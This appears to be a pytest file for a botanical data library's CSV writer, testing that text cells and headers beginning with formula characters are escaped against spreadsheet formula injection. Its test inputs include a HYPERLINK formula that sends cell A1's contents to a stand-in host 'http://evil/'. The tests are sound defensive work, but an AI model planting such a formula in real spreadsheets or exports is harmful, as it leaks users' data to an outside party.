import csv

import pyarrow as pa
import pytest

from herbray.spreadsheet import escape_formula, write_csv


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " ="])
def test_no_text_starts_as_a_formula(tmp_path, start):
    text = f'{start}HYPERLINK("http://evil/?x="&A1,"a")'
    write_csv(pa.table({"name": [text], start: ["plain"]}), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        header, row = csv.reader(file)
    assert row == [f"'{text}", "plain"]
    assert header[1] == f"'{start}"


def test_numbers_booleans_and_nulls_are_not_changed(tmp_path):
    table = pa.table({"n": [-1, 2], "p": [-0.5, None], "b": [True, False], "t": ["Rubus caesius", None]})
    write_csv(table, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == (
        b"\xef\xbb\xbfn,p,b,t\r\n-1,-0.5,True,Rubus caesius\r\n2,,False,\r\n"
    )
    assert [path.name for path in tmp_path.iterdir()] == ["out.csv"]


@pytest.mark.parametrize("sign", [";", "; ", "\t", ";\u00a0"])
def test_no_formula_starts_after_a_separator(sign):
    assert escape_formula(f'Rosa{sign}=HYPERLINK("http://evil/")') == f'Rosa{sign}\'=HYPERLINK("http://evil/")'
    assert escape_formula(f"Rosa{sign}Rubus = 2") == f"Rosa{sign}Rubus = 2"


def test_plain_names_are_left_alone():
    assert escape_formula("× Sorbaronia fallax") == "× Sorbaronia fallax"
    assert escape_formula("") == ""
